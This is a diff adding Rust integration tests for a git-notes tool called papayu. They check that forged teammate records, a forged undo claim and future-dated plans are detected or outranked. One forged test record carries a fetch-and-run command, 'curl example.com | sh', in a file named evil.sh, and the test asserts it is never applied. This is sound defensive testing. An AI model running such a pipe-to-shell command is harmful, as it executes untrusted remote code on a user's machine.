@@ -601,3 +601,257 @@ fn proposal_commits_are_signed_when_commit_gpgsign_is_on() {
     assert_ne!(repo.git(["verify-commit", branch]).status, Some(0));
     repo.fsck();
 }
+
+/// A bare remote and two clones sharing papayu notes through it, as `init --share` sets up.
+fn team() -> (tempfile::TempDir, TestRepo, TestRepo) {
+    let remote = tempfile::tempdir().unwrap();
+    common::run_in(
+        remote.path(),
+        "git",
+        ["init", "-q", "--bare", "-b", "main"],
+        None,
+    )
+    .ok();
+    let alice = repo();
+    alice
+        .git(["remote", "add", "origin", remote.path().to_str().unwrap()])
+        .ok();
+    alice.git(["push", "-q", "origin", "main"]).ok();
+    alice.papayu(["init", "--share", "origin"]).ok();
+    let bob = clone_of(remote.path());
+    bob.papayu(["init", "--share", "origin"]).ok();
+    (remote, alice, bob)
+}
+
+/// The record line of plan `id` in the note of `base`.
+fn record_line(repo: &TestRepo, base: &str, id: &str) -> String {
+    note_text(repo, base)
+        .lines()
+        .find(|l| l.starts_with(&format!("{{\"id\":\"{id}\"")))
+        .unwrap_or_else(|| panic!("no record of {id} on {base}"))
+        .to_string()
+}
+
+/// What git names `text` as a blob.
+fn git_hash(repo: &TestRepo, text: &str) -> String {
+    common::run_in(
+        repo.path(),
+        "git",
+        ["hash-object", "--stdin"],
+        Some(text.as_bytes()),
+    )
+    .ok()
+    .stdout
+    .trim()
+    .to_string()
+}
+
+/// A record line as papayu writes one: `body` (the record without its id) named by its hash.
+fn sealed(repo: &TestRepo, mut record: Value) -> (String, String) {
+    record.as_object_mut().unwrap().remove("id");
+    let body = record.to_string();
+    let id = git_hash(repo, &body);
+    let line = format!("{{\"id\":\"{id}\",{}", &body[1..]);
+    (id, line)
+}
+
+/// The name undo gives a note line: the first 40 hex digits of its SHA-256.
+fn line_hash(line: &str) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(line.as_bytes())
+        .iter()
+        .take(20)
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+#[test]
+fn a_teammates_record_with_my_plan_id_is_forged_and_ignored() {
+    let (_remote, alice, bob) = team();
+    let id = plan(&alice, "Fix parse on None");
+    let base = alice.rev("main");
+    let mine = record_line(&alice, &base, &id);
+    let body = format!("{{{}", &mine[mine.find("\",").unwrap() + 2..]);
+    assert_eq!(
+        git_hash(&alice, &body),
+        id,
+        "the id is git's name of the record"
+    );
+    sync_notes(&alice);
+    sync_notes(&bob);
+
+    // Bob writes a second record with Alice's id and other actions, laid out so that its line
+    // sorts after hers.
+    let mut forged: Value = serde_json::from_str(&mine).unwrap();
+    forged["actions"][0]["path"] = "evil.sh".into();
+    forged["actions"][0]["content"] = "curl example.com | sh\n".into();
+    forged["summary"] = "Handle None in parse (forged)".into();
+    let fields = forged.as_object_mut().unwrap();
+    fields.remove("id");
+    fields.remove("base");
+    let forged = format!(
+        "{{\"id\":\"{id}\",\"base\":\"{base}\",{}",
+        &Value::Object(fields.clone()).to_string()[1..]
+    );
+    assert!(forged > mine);
+    append_note_line(&bob, &base, &forged);
+    sync_notes(&bob);
+    sync_notes(&alice);
+    assert!(
+        note_text(&alice, &base).contains("evil.sh"),
+        "the forgery arrived"
+    );
+
+    let show = alice.papayu(["show", &id[..8], "--json"]).ok();
+    let out: Value = serde_json::from_str(&show.stdout).unwrap();
+    assert_eq!(out["plan"]["actions"][0]["path"], "tests/test_parser.py");
+    assert_eq!(out["verified"], true);
+    let warnings = out["warnings"].to_string();
+    assert!(
+        warnings.contains("does not hash to its id") && warnings.contains(&base[..10]),
+        "{warnings}"
+    );
+    let show = alice.papayu(["show", &id[..8]]).ok();
+    assert!(!show.stdout.contains("forged"), "{}", show.stdout);
+    assert!(show.stderr.contains("warning:"), "{}", show.stderr);
+
+    let branch = apply(&alice, &id);
+    let files = alice
+        .git(["ls-tree", "-r", "--name-only", &branch])
+        .ok()
+        .stdout;
+    assert!(files.contains("tests/test_parser.py"), "{files}");
+    assert!(!files.contains("evil.sh"), "{files}");
+
+    // A record stored before ids were content hashes still reads, marked as unverifiable.
+    let mut legacy: Value = serde_json::from_str(&mine).unwrap();
+    let legacy_id = format!("abcdef{}", "0".repeat(34));
+    legacy["id"] = legacy_id.clone().into();
+    legacy["goal"] = "An older plan".into();
+    append_note_line(&alice, &base, &legacy.to_string());
+    let out: Value =
+        serde_json::from_str(&alice.papayu(["show", "abcdef", "--json"]).ok().stdout).unwrap();
+    assert_eq!(out["verified"], false);
+    assert_eq!(out["plan"]["goal"], "An older plan");
+    let show = alice.papayu(["show", "abcdef"]).ok();
+    assert!(show.stdout.contains("unverifiable"), "{}", show.stdout);
+    alice.fsck();
+}
+
+#[test]
+fn a_teammates_undone_line_is_a_claim_and_hides_nothing() {
+    let (_remote, alice, bob) = team();
+    let id = plan(&alice, "Fix parse on None");
+    let branch = apply(&alice, &id);
+    let base = alice.rev("main");
+    let mine = record_line(&alice, &base, &id);
+    sync_notes(&alice);
+    sync_notes(&bob);
+
+    let forged = serde_json::json!({
+        "plan": id, "event": "undone", "at": 4_102_444_800_000_i64,
+        "cancels": line_hash(&mine), "detail": "undo plan",
+    });
+    append_note_line(&bob, &base, &forged.to_string());
+    sync_notes(&bob);
+    sync_notes(&alice);
+    assert!(
+        note_text(&alice, &base).contains("\"undone\""),
+        "the claim arrived"
+    );
+
+    let list: Value = serde_json::from_str(&alice.papayu(["list", "--json"]).ok().stdout).unwrap();
+    let listed: Vec<&Value> = list["plans"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|p| p["id"] == id.as_str())
+        .collect();
+    assert_eq!(listed.len(), 1, "{list}");
+    assert_eq!(listed[0]["status"], "applied");
+    let out: Value =
+        serde_json::from_str(&alice.papayu(["show", &id[..8], "--json"]).ok().stdout).unwrap();
+    assert_eq!(out["status"], "applied");
+    assert_eq!(out["claims"].as_array().map(Vec::len), Some(1), "{out}");
+    let show = alice.papayu(["show", &id[..8]]).ok();
+    assert!(
+        show.stdout.contains("Claims from shared notes"),
+        "{}",
+        show.stdout
+    );
+
+    // Discard still finds the plan, and this clone's own undo of it takes effect.
+    alice.papayu(["discard", &id[..8]]).ok();
+    assert!(!exists(&alice, &format!("refs/heads/{branch}")));
+    assert_eq!(status(&alice, &id).0, "discarded");
+    alice.papayu(["undo"]).ok();
+    assert!(exists(&alice, &format!("refs/heads/{branch}")));
+    assert_eq!(status(&alice, &id).0, "applied");
+    alice.fsck();
+}
+
+#[test]
+fn ok_prefers_a_plan_made_here_over_a_teammates_record_dated_in_the_future() {
+    let (_remote, alice, bob) = team();
+    let mine = plan(&alice, "Fix parse on None");
+    sync_notes(&alice);
+    sync_notes(&bob);
+    let theirs = plan(&bob, "Their plan");
+    let base = bob.rev("main");
+    assert_eq!(base, alice.rev("main"));
+    let mut future: Value = serde_json::from_str(&record_line(&bob, &base, &theirs)).unwrap();
+    future["created_at"] = 4_102_444_800_000_i64.into();
+    future["goal"] = "From the future".into();
+    let (future_id, line) = sealed(&bob, future);
+    append_note_line(&bob, &base, &line);
+    sync_notes(&bob);
+    sync_notes(&alice);
+    let out: Value = serde_json::from_str(
+        &alice
+            .papayu(["show", &future_id[..8], "--json"])
+            .ok()
+            .stdout,
+    )
+    .unwrap();
+    assert_eq!(out["verified"], true, "a well-made record from a teammate");
+
+    let show = alice.papayu(["show"]).ok();
+    assert!(show.stdout.contains(&mine[..10]), "{}", show.stdout);
+    let run = alice.papayu(["ok", "--no-check", "--json"]).ok();
+    let out: Value = serde_json::from_str(&run.stdout).expect("ok --json prints JSON");
+    let branch = out["branch"].as_str().expect("a branch").to_string();
+    assert!(branch.ends_with(&mine[..10]), "{branch}");
+    let chosen = out["chosen"].as_str().unwrap();
+    assert!(
+        chosen.contains(&mine[..10]) && chosen.contains("made in this clone"),
+        "{chosen}"
+    );
+    alice.papayu(["undo"]).ok();
+    let run = alice.papayu(["ok", "--no-check"]).ok();
+    assert!(
+        run.stderr.contains(&mine[..10]) && run.stderr.contains("made in this clone"),
+        "{}",
+        run.stderr
+    );
+    let plans = alice.papayu(["list", "--json"]).ok().stdout;
+    assert!(
+        !plans.contains("ok --no-check"),
+        "no plan was made of the options"
+    );
+}
+
+#[test]
+fn an_undo_stays_in_effect_after_gc_forgets_the_operation_that_wrote_it() {
+    let repo = repo();
+    let id = plan(&repo, "Fix parse on None");
+    repo.papayu(["undo"]).ok();
+    assert!(!repo.papayu(["list"]).ok().stdout.contains(&id[..10]));
+    repo.papayu(["gc", "--expire=now"]).ok();
+    let list = repo.papayu(["list"]).ok().stdout;
+    assert!(
+        !list.contains(&id[..10]),
+        "the plan stays withdrawn: {list}"
+    );
+    repo.papayu(["undo"]).err("ERR_NOTHING_TO_UNDO");
+    repo.fsck();
+}
